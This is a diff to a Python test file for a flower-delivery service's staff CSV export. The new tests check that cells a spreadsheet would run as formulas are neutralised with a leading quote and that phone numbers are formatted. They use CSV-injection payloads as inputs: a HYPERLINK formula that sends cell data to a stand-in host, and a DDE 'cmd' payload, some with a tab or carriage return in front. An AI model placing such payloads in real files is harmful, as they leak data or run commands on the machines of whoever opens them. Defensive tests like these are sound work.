@@ -372,9 +372,78 @@ def test_the_csv_of_tomorrows_deliveries_lists_address_category_wishes_and_phone
             "Москва, ул. Ленина, 25, кв. 10",
             "Романтический",
             "Без лилий, с запиской",
-            "+7 900 123-45-67",
+            "8 (900) 123-45-67",
         ],
     ]
+
+
+def export_rows(client) -> list[list[str]]:
+    response = client.get(f"{ADMIN_DELIVERIES}export-tomorrow/")
+    assert response.status_code == HTTPStatus.OK
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
+    + ["\t=1+1", "\r=1+1"],
+)
+def test_the_csv_quotes_cells_a_spreadsheet_would_run_and_keeps_them_otherwise(
+    superuser_client, profile_factory, typed
+):
+    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
+    profile = profile_factory(first_delivery_date=tomorrow, wishes=typed)
+    Delivery.objects.filter(profile=profile).update(delivery_address=typed)
+
+    [_, row] = export_rows(superuser_client)
+
+    assert row[1] == row[3] == f"'{typed}"
+
+
+@pytest.mark.parametrize(
+    ("stored", "written"),
+    [("+79001234567", "8 (900) 123-45-67"), ("+12025550143", "'+1 202-555-0143"), ("", "")],
+)
+def test_the_csv_writes_phones_as_couriers_dial_them(superuser_client, profile_factory, stored, written):
+    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
+    profile_factory(first_delivery_date=tomorrow, phone=stored)
+
+    [_, row] = export_rows(superuser_client)
+
+    assert row[4] == written
+
+
+def test_the_csv_leaves_ordinary_text_alone(superuser_client, profile_factory):
+    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
+    profile_factory(first_delivery_date=tomorrow, wishes="Розы, 5 шт. = 'много'; без лилий")
+
+    [_, row] = export_rows(superuser_client)
+
+    assert row[3] == "Розы, 5 шт. = 'много'; без лилий"
+
+
+def test_a_tab_typed_before_a_formula_survives_the_form_and_is_quoted_in_the_csv(
+    client, superuser, profile_factory
+):
+    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
+    profile = profile_factory(first_delivery_date=tomorrow)
+    client.force_login(profile.user)
+    data = {
+        "bouquet_category": profile.bouquet_category.slug,
+        "delivery_address": profile.delivery_address,
+        "next_delivery_date": tomorrow.isoformat(),
+        "delivery_interval": profile.delivery_interval,
+        "wishes": "\r\n\t=cmd|' /C calc'!A0  \r\n",
+        "phone": "",
+    }
+
+    response = client.post("/account/preferences/", data)
+
+    assert response.status_code == HTTPStatus.FOUND
+    profile.refresh_from_db()
+    assert profile.wishes == "\t=cmd|' /C calc'!A0"
+    client.force_login(superuser)
+    assert export_rows(client)[1][3] == "'\t=cmd|' /C calc'!A0"
 
 
 def test_the_csv_is_for_staff_only(customer_client):
